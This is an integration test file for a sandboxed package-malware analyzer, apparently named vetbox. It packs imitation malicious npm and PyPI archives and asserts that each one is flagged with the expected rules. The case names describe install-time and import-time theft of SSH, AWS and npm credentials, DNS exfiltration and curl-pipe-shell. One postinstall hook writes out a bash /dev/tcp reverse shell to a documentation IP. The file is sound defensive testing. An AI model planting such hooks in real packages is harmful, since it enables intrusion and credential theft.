// The imitation malware of the sandbox, sinkhole and trace work, packed as the archives a user
// would upload and judged by `npx vetbox analyze <archive> --local --json`: each must come out
// malicious (exit 2) with the rule ids its behavior calls for. Payloads only target `.example`
// names and documentation addresses, and run only inside the sandbox.
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PhaseName, Report } from '@vetbox/contracts';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
import { runVetbox } from '../helpers/cli.js';
import { writeNpmArchive, type NpmArchiveSpec } from '../fixtures/pipeline/imitation.js';
import { AWS_TCP_PY, DNS_EXFIL_JS, NPMRC_HTTPS_JS, NPM_PAYLOAD, PY_PAYLOAD, awsStealerSetupPy, stagePypiSdist } from '../fixtures/sandbox/stage.js';
import { wheelFiles, writeZip } from '../../services/fetch/src/__fixtures__/archives.js';

const runtime = new DockerRuntime();
let dir = '';
const cleanup: string[] = [];

beforeAll(async () => {
  await ensureSandboxImage(runtime, { build: true });
  dir = await mkdtemp(path.join(os.tmpdir(), 'vetbox-cli-imitation-'));
  cleanup.push(dir);
}, 600_000);

afterAll(async () => {
  await Promise.all(cleanup.map((d) => rm(d, { recursive: true, force: true })));
});

const npm = (name: string, scripts: Record<string, string>, files: Record<string, string>): (() => Promise<string>) => () =>
  writeNpmArchive(dir, { name, version: '1.0.0', scripts, files: { 'index.js': 'module.exports = 1;\n', ...files } } satisfies NpmArchiveSpec);

const sdist = (name: string, setupPy: string): (() => Promise<string>) => async () => {
  const staged = await stagePypiSdist({ name, setupPy, files: { [`${name}.py`]: 'VALUE = 1\n' } });
  cleanup.push(staged.dir);
  return path.join(staged.dir, staged.archiveFile);
};

// A wheel runs no code at install (pip only unpacks it): its payload waits for the import.
const wheel = (name: string, initPy: string): (() => Promise<string>) => async () => {
  const file = path.join(dir, `${name}-1.0.0-py3-none-any.whl`);
  await writeZip(file, wheelFiles(name, '1.0.0', { [`${name}/__init__.py`]: initPy }, { topLevel: [name] }));
  return file;
};

const CASES: Array<{ name: string; archive: () => Promise<string>; rules: string[]; phase?: 'install' | 'import' }> = [
  {
    name: 'npm postinstall: reads ~/.ssh/id_rsa, curl | sh, raw TCP to 192.0.2.10',
    archive: npm('cli-evil-postinstall', { postinstall: 'node install.js' }, { 'install.js': NPM_PAYLOAD }),
    rules: ['credential-store-read', 'downloader-execution', 'network-activity'],
    phase: 'install',
  },
  {
    name: 'npm payload that runs only when imported',
    archive: npm('cli-lazy-payload', {}, { 'index.js': `${NPM_PAYLOAD}\nmodule.exports = {};\n` }),
    rules: ['credential-store-read', 'downloader-execution'],
    phase: 'import',
  },
  {
    name: 'PyPI sdist whose setup.py does the same during pip install',
    archive: sdist('clievilpkg', `${PY_PAYLOAD}\nfrom setuptools import setup\nsetup(name='clievilpkg', version='1.0.0', py_modules=['clievilpkg'])\n`),
    rules: ['credential-store-read', 'downloader-execution', 'network-activity'],
  },
  {
    name: 'npm postinstall hex-encodes NPM_TOKEN into DNS labels',
    archive: npm('cli-dns-exfil', { postinstall: 'node dns.js' }, {
      'dns.js': DNS_EXFIL_JS,
    }),
    rules: ['credential-exfiltration', 'network-activity'],
  },
  {
    name: 'PyPI setup.py sends ~/.aws/credentials over raw TCP',
    archive: sdist('cliawssteal', awsStealerSetupPy('cliawssteal')),
    rules: ['credential-exfiltration', 'credential-store-read', 'network-activity'],
  },
  {
    name: 'PyPI wheel whose module sends ~/.aws/credentials over raw TCP when imported',
    archive: wheel('cliwheelsteal', `${AWS_TCP_PY}\nVALUE = 1\n`),
    rules: ['credential-exfiltration', 'credential-store-read', 'network-activity'],
    phase: 'import',
  },
  {
    name: 'npm postinstall POSTs ~/.npmrc over HTTPS (decrypted by the sinkhole)',
    archive: npm('cli-npmrc-https', { postinstall: 'node up.js' }, {
      'up.js': NPMRC_HTTPS_JS,
    }),
    rules: ['credential-exfiltration', 'credential-store-read', 'network-activity'],
  },
  {
    name: 'npm postinstall opens a reverse shell to 192.0.2.10',
    archive: npm('cli-revshell', { postinstall: "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' || true" }, {}),
    rules: ['reverse-shell'],
  },
];

describe('vetbox analyze <archive> --local --json on imitation malware', () => {
  for (const c of CASES) {
    it(`${c.name}: malicious with ${c.rules.join(', ')}`, async () => {
      const archive = await c.archive();
      const result = await runVetbox(['analyze', archive, '--local', '--json']);
      const report = Report.parse(JSON.parse(result.stdout));
      const text = `${report.package.name}: ${report.verdict} ${report.score}\n${report.findings.map((f) => `  ${f.rule}(${f.severity}) ${f.phase}`).join('\n')}\n${result.stderr.slice(-2000)}`;
      console.log(text);
      expect(result.code, text).toBe(2);
      expect(report.verdict, text).toBe('malicious');
      const fired = new Set(report.findings.map((f) => f.rule));
      for (const id of c.rules) expect(fired, text).toContain(id);
      if (c.phase) {
        // The payload first fires in its phase. The later phases run the same code again (execute
        // calls the exports, idle installs and imports a year ahead), so it may fire there too,
        // but never earlier: an import-time payload shows nothing at install.
        const phases = report.findings.filter((f) => c.rules.includes(f.rule) && f.phase !== null).map((f) => PhaseName.options.indexOf(f.phase!));
        expect(PhaseName.options[Math.min(...phases)], text).toBe(c.phase);
      }
      expect(await runtime.listByLabel(LABEL_ANALYSIS, report.analysisId!)).toEqual([]);
    }, 300_000);
  }
});
